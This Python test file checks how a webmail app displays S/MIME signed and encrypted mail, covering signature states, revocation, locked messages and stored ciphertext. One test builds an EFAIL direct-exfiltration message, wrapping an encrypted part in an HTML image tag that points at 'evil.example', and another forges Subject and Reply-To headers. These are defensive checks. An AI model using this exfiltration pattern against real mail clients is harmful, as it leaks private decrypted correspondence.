"""What a reader is told of signed and encrypted mail, and what is never shown."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import pytest

from directory.pki.certificates import ENCRYPTION, SIGNING, certificates_of, holding, revoke
from directory.pki.trust import judging
from security.cms import Recipient, Signing, encrypt, sign
from tests.webmail.certified_hall import Authorities, signed
from tests.webmail.conftest import Visitor
from tests.webmail.town_hall import TownHall, letter

TEXT = "Chiều nay họp lúc 14 giờ."


def lay(an: Visitor, hall: TownHall, octets: bytes, date: int | None = None) -> str:
    uid = hall.put("an", octets, date=date)
    return f"/mail/{hall.mailbox('an').id}/{uid}"


def tampered(octets: bytes) -> bytes:
    """One character of the text is another."""
    at = octets.index(b"\r\n\r\n", octets.index(b"hp=")) + 6
    return octets[:at] + (b"A" if octets[at : at + 1] != b"A" else b"B") + octets[at + 1 :]


def told(page: str) -> list[str]:
    return re.findall(r'data-protection="([^"]+)"', page)


def encrypted(
    hall: TownHall, octets: bytes, *logins: str, signing: Signing | None = None, capable: bool = True
) -> bytes:
    with hall.services.directory.read() as conn:
        certificates = [holding(conn, hall.account(login).id, ENCRYPTION)[0].der for login in logins]
        recipients = [Recipient(der) for der in certificates]
        if not capable:
            recipients.append(Recipient(old_program()))
        now = datetime.fromtimestamp(conn.now, UTC)
        judge = judging(conn) if capable else lambda *_, **__: _Good()  # type: ignore[assignment]
        return b"".join(encrypt(octets, recipients, at=now, judge=judge, signing=signing))


class _Good:
    good = True


def old_program() -> bytes:
    """A certificate that says nothing of what its owner's program can read."""
    from tests.security.cms.people import person

    return person("rsa", "cu@far.example").certificate


def test_a_valid_signature_and_all_that_is_known_of_it(an: Visitor, authorities: Authorities) -> None:
    keys = authorities.certify("binh")
    octets = signed(letter(text=TEXT, files=[("a.txt", "text/plain", b"x")]), keys.signer)
    path = lay(an, authorities.hall, octets)
    page, frame = an.page(path), an.page(f"{path}/body")
    assert told(page) == ["valid"]
    assert "Đã ký, chữ ký hợp lệ" in page
    assert TEXT in frame
    assert "data-protection" not in frame
    assert "smime.p7s" not in page
    assert "a.txt" in page
    details = an.page(f"{path}/protection")
    for fact in ("City Issuing CA", "City Root CA", "binh@thanhpho.example", "ecdsa"):
        assert fact in details
    [link] = re.findall(r'href="([^"]+/certificate/[0-9a-f]{64})"', details)
    given = an.get(link)
    assert given.get_data() == keys.signer.certificate
    assert given.mimetype == "application/pkix-cert"
    assert an.get(link[:-1] + ("0" if link[-1] != "0" else "1")).status_code == 404
    an.post("/language", {"language": "en", "next": "/"})
    assert "Signed, and the signature is valid" in an.page(path)
    assert "Signed, and the signature is valid" in an.page(f"{path}/print")


def test_the_states_of_a_signature(an: Visitor, authorities: Authorities) -> None:
    hall = authorities.hall
    now = int(hall.clock())
    binh, unit = authorities.certify("binh", days=2), authorities.certify("vanthu.snv")
    good = signed(letter(text=TEXT), binh.signer)
    stranger = authorities.stranger("khach@doitac.example", trusted=False)
    guest = letter("Khách <khach@doitac.example>", text=TEXT)
    body = good.partition(b"\r\n\r\n")
    listed = (
        b"From: binh@thanhpho.example\r\nTo: an@thanhpho.example\r\nSubject: [so] Hop\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=list\r\n\r\n--list\r\n"
        + re.search(rb"Content-Type: multipart/signed;.*", body[0], re.DOTALL)[0]  # type: ignore[index]
        + b"\r\n\r\n"
        + body[2]
        + b"\r\n--list\r\nContent-Type: text/plain\r\n\r\n-- \r\nto leave the list\r\n--list--\r\n"
    )
    shown = {
        "valid": good,
        "altered": tampered(good),
        "unknown-ca": stranger.signed(guest),
        "address-mismatch": signed(letter(text=TEXT), unit.signer),
        "partly-signed": listed,
        "unsupported": re.sub(rb"MII[A-Za-z0-9+/]{60}", b"A" * 63, good),
    }
    for state, octets in shown.items():
        path = lay(an, hall, octets, date=now)
        assert told(an.page(path)) == [state], state
        assert told(an.page(f"{path}/protection"))[:1] == [state]
    then = lay(an, hall, good, date=now)
    hall.clock.pass_by(3 * 86_400)
    an.sign_in("an")
    assert told(an.page(then)) == ["valid-then"]
    assert told(an.page(lay(an, hall, good, date=now + 3 * 86_400))) == ["unknown-ca"]  # it came with an expired one


def test_revoked_before_it_came_and_after(an: Visitor, authorities: Authorities) -> None:
    hall = authorities.hall
    keys = authorities.certify("binh")
    octets = signed(letter(text=TEXT), keys.signer)
    before = lay(an, hall, octets, date=int(hall.clock()) - 60)
    with hall.services.directory.write() as conn:
        mine = [one for one in certificates_of(conn, hall.account("binh").id) if one.purpose == SIGNING]
        revoke(conn, "test", mine, "key-compromise")
    after = lay(an, hall, octets, date=int(hall.clock()) + 1)
    hall.clock.pass_by(60)
    assert told(an.page(before)) == ["valid-then"]
    assert "đã bị thu hồi" in an.page(before)
    assert told(an.page(after)) == ["revoked"]


def test_what_was_signed_stands_apart_from_what_a_list_added(an: Visitor, authorities: Authorities) -> None:
    inner = signed(letter(text=TEXT), authorities.certify("binh").signer)
    head, _, body = inner.partition(b"\r\n\r\n")
    kind = re.search(rb"Content-Type: multipart/signed;.*", head, re.DOTALL)
    assert kind is not None
    octets = (
        b"From: binh@thanhpho.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=l\r\n\r\n--l\r\n" + kind[0] + b"\r\n\r\n" + body + b"\r\n--l\r\n"
        b"Content-Type: text/plain\r\n\r\nchan thu\r\n"
        b"--l\r\nContent-Type: application/pdf; name=la.pdf\r\n\r\nx\r\n--l--\r\n"
    )
    path = lay(an, authorities.hall, octets)
    page = an.page(path)
    assert re.findall(r'src="[^"]+/body\?signed=([01])"', page) == ["1", "0"]
    signed_part, rest = an.page(f"{path}/body?signed=1"), an.page(f"{path}/body?signed=0")
    assert TEXT in signed_part
    assert "chan thu" not in signed_part
    assert TEXT not in rest
    assert "chan thu" in rest
    assert "la.pdf</span><span" in page


def test_encrypted_mail_is_opened_for_its_reader_and_kept_closed(an: Visitor, authorities: Authorities) -> None:
    hall = authorities.hall
    signing = Signing([authorities.certify("binh").signer], authorities.now)
    plain = letter(subject="Kỷ luật", text=TEXT, files=[("Mật.txt", "text/plain", b"noi dung mat" * 100)])
    octets = encrypted(hall, plain, "an", "binh", signing=signing)
    path = lay(an, hall, octets)
    page, frame = an.page(path), an.page(f"{path}/body")
    assert told(page) == ["encrypted", "valid"]
    assert "Kỷ luật" in page
    assert TEXT in frame
    index = re.search(rf'href="{path}/part/(\d+)"', page)
    assert index is not None
    part = an.get(f"{path}/part/{index[1]}")
    assert part.get_data() == b"noi dung mat" * 100
    assert part.headers["Cache-Control"] == "private, no-store"
    assert b"noi dung mat" in an.get(f"{path}/attachments.zip").get_data()
    # nothing of it is kept in the clear
    assert TEXT.encode() not in hall.octets("an", 1)
    assert hall.rows("an")[0][2] == "[...]"
    assert told(an.page("/search?q=ky luat")) == []
    assert "Kỷ luật" not in an.page("/search?q=luat")
    assert an.get(f"{path}/original").get_data() == octets


def test_whose_key_is_not_here_sees_that_it_is_closed(an: Visitor, authorities: Authorities) -> None:
    path = lay(an, authorities.hall, encrypted(authorities.hall, letter(text=TEXT), "binh"))
    page, frame = an.page(path), an.page(f"{path}/body")
    assert told(page) == ["locked"]
    assert "không được mã hóa cho hộp thư này" in page
    assert "smime.p7m" not in page
    assert TEXT not in frame
    assert "Thư này được mã hóa" in frame


def test_what_nothing_vouches_for_is_said_so(an: Visitor, authorities: Authorities) -> None:
    html = '<p>Chào</p><img src="http://dichvu.example/a.png">'
    octets = encrypted(authorities.hall, letter(html=html, text="Chào"), "an", capable=False)
    path = lay(an, authorities.hall, octets)
    page, frame = an.page(path), an.page(f"{path}/body?pictures=1")
    assert told(page) == ["encrypted-unproven"]
    assert "data-show-pictures" not in page
    assert "dichvu.example" not in frame
    assert "https:" not in an.get(f"{path}/body?pictures=1").headers["Content-Security-Policy"]


@pytest.mark.parametrize("kind", ["mixed", "related", "alternative"])
def test_an_encrypted_part_among_others_is_never_opened(an: Visitor, authorities: Authorities, kind: str) -> None:
    """EFAIL, direct exfiltration: the secret between two halves of somebody's HTML."""
    secret = encrypted(authorities.hall, letter(text=TEXT), "an")
    part = re.search(rb"Content-Type: application/pkcs7-mime.*", secret, re.DOTALL)
    assert part is not None
    octets = (
        f"From: x@far.example\r\nTo: an@thanhpho.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: multipart/{kind}; boundary=m\r\n\r\n--m\r\n"
        'Content-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n--m\r\n'
    ).encode() + part[0]
    octets += b'\r\n--m\r\nContent-Type: text/html\r\n\r\n">\r\n--m--\r\n'
    path = lay(an, authorities.hall, octets)
    page = an.page(path)
    assert told(page) == ["not-opened"]
    for view in (f"{path}/body", f"{path}/body?pictures=1", f"{path}/print", f"{path}/original?view=1"):
        assert TEXT not in an.page(view)
    for index in range(6):
        assert TEXT.encode() not in an.get(f"{path}/part/{index}").get_data()


def test_fields_outside_that_say_something_else(an: Visitor, authorities: Authorities) -> None:
    octets = signed(letter(subject="Họp", text=TEXT), authorities.certify("binh").signer)
    head, blank, body = octets.partition(b"\r\n\r\n")
    forged = re.sub(rb"(?m)^Subject: .*\r?$", b"Subject: [so-noi-vu] Chuyen tien gap\r", head) + blank + body
    path = lay(an, authorities.hall, forged)
    page = an.page(path)
    assert '<h1 class="thread-subject" id="thread-subject" tabindex="-1">Họp' in page
    details = an.page(f"{path}/protection")
    assert "[so-noi-vu] Chuyen tien gap" in details
    # an answer goes to whom the author named, not to whom somebody added outside
    added = octets.replace(b"MIME-Version", b"Reply-To: evil@far.example\r\nMIME-Version", 1)
    answer = an.page(f"/compose?reply={':'.join(lay(an, authorities.hall, added).split('/')[2:])}")
    assert "evil@far.example" not in answer


def test_a_strangers_certificate_is_confirmed_and_another_is_called_out(an: Visitor, authorities: Authorities) -> None:
    hall = authorities.hall
    guest = authorities.stranger("khach@doitac.example", trusted=True)
    reading = authorities.stranger("khach@doitac.example", trusted=True, purpose=ENCRYPTION)
    written = letter("Khách <khach@doitac.example>", text=TEXT)

    def message(key: bytes) -> str:
        companions = (guest.issuing, reading.issuing)
        signing = Signing([guest.key], authorities.now, companions, answer_to=key)
        return lay(an, hall, b"".join(sign(written, signing)) if written.isascii() else _seven(written, signing))

    path = message(reading.key.certificate)
    details = an.page(f"{path}/protection")
    assert told(details)[0] == "valid"
    [digits] = set(re.findall(r'name="fingerprint" value="([0-9a-f]+)"', details))
    assert an.post(f"{path}/correspondent", {"fingerprint": "0" * 64}, follow=True).status_code == 200
    assert "Bạn chưa xác nhận" in an.page("/settings/correspondents")
    page = an.post(f"{path}/correspondent", {"fingerprint": digits}, follow=True).get_data(as_text=True)
    assert "Bạn đã xác nhận chứng thư này" in page
    other = authorities.stranger("khach@doitac.example", trusted=True, purpose=ENCRYPTION)
    assert "Đây là chứng thư khác" in an.page(f"{message(other.key.certificate)}/protection")
    assert "khach@doitac.example" in an.page("/settings/correspondents")
    an.post("/settings/correspondents", {"forget": "khach@doitac.example"}, follow=True)
    assert "khach@doitac.example" not in an.page("/settings/correspondents")


def _seven(octets: bytes, signing: Signing) -> bytes:
    from mailserver.message.seven_bit import to_seven_bit

    found = to_seven_bit(octets)
    assert found is not None
    return b"".join(sign(found, signing))


def test_ordinary_mail_says_nothing_of_it(an: Visitor, authorities: Authorities) -> None:
    path = lay(an, authorities.hall, letter(text=TEXT))
    assert told(an.page(path)) == []
    assert an.get(f"{path}/protection").status_code == 404


def test_the_list_shows_what_is_signed_and_what_is_encrypted(an: Visitor, authorities: Authorities) -> None:
    hall = authorities.hall
    signer = authorities.certify("binh").signer
    hall.put("an", letter(subject="thường"))
    hall.put("an", signed(letter(subject="đã ký"), signer))
    hall.put("an", b"".join(sign(letter(subject="mờ"), Signing([signer], authorities.now), opaque=True)))
    hall.put("an", encrypted(hall, letter(subject="kín"), "an"))
    page = an.page(f"/mail/{hall.mailbox('an').id}")
    rows = page.split('role="row"')[1:]
    assert [re.findall(r'data-protected="(\w+)"', row) for row in rows] == [
        ["encrypted"], ["signed"], ["signed"], [],
    ]  # fmt: skip
    assert "#clip" not in rows[0]
    assert "Thư đã mã hóa" in rows[0]
